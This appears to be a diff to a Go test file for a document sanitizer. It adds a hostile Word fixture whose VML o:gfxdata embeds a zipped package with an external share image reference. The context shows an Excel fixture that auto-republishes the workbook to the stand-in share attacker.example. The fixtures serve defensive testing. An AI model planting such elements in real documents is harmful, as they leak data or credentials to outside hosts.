@@ -232,6 +232,17 @@ func elementCases() []hostileCase {
 			text:  []string{"End of the sample report"},
 		},
 		{
+			// o:gfxdata is a zipped package (here with an external image relationship)
+			// that Word 2007 unpacks into the shape; the VML text box stays.
+			name: "vml-gfxdata.docx", base: "ooxml/report.docx",
+			edits: []edit{
+				replace(docMain, docEnd, docEnd+`<w:r><w:pict><v:shape id="_x0000_s2002" type="#_x0000_t202" style="width:120pt;height:30pt" o:gfxdata="`+gfxdataZip+`"><v:textbox><w:txbxContent><w:p><w:r><w:t>Box keeps its text</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>`),
+			},
+			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
+			gone:  []string{"gfxdata", gfxdataZip[:40]},
+			text:  []string{"Box keeps its text", "End of the sample report"},
+		},
+		{
 			name: "web-publish.xlsx", base: "ooxml/ledger.xlsx",
 			edits: []edit{
 				replace(wbMain, "<extLst>", `<webPublishObjects count="1"><webPublishObject id="1" divId="x" destinationFile="\\attacker.example\s\y.htm" autoRepublish="1"/></webPublishObjects><extLst>`),
@@ -262,3 +273,7 @@ func elementCases() []hostileCase {
 		},
 	}
 }
+
+// gfxdataZip is a zipped OPC package whose only relationship is an external image on a
+// share, base64-encoded as Word writes o:gfxdata.
+const gfxdataZip = "UEsDBBQAAAAIANkth11XvuoOiQAAALYAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbF2OMQ7CMAxFr1JlRa0rBgbUdoHegAtYwW0i0sSKDSq3Jy1MjPZ/9vvd7c0k1bqEKL1xqnwGEOtoQWkSUyzJlPKCWsY8A6N94ExwbNsT2BSVota6/TBDd6UJn0GrcS1r8Sn2JlMQU12+4ObqDTIHb1FLDq94/7PUP0NTLndGnGc5FMDA0MFed/gAUEsDBBQAAAAIANkth13zWHtwoAAAAA0BAAALAAAAX3JlbHMvLnJlbHONjz0OwjAMha9S5QB1YWBAbScYOnRBXMBKnTQif3KMVG5PFqQiMTBa7+n7nvsbeRSXYlldLs0WfCyDWkXyGaDolQKWNmWKNTGJA0o92UJG/UBLcOy6E/CeocZ+z2ymZVA8LQfV3F+Z/mEnY5ymS9LPQFF+KMCF6q5AZEsyKOM8VSSK1FXELW0YsicogG2O9lOc01L9102II3oFYw9f349vUEsBAhQDFAAAAAgA2S2HXVe+6g6JAAAAtgAAABMAAAAAAAAAAAAAAIABAAAAAFtDb250ZW50X1R5cGVzXS54bWxQSwECFAMUAAAACADZLYdd81h7cKAAAAANAQAACwAAAAAAAAAAAAAAgAG6AAAAX3JlbHMvLnJlbHNQSwUGAAAAAAIAAgB6AAAAgwEAAAAA"
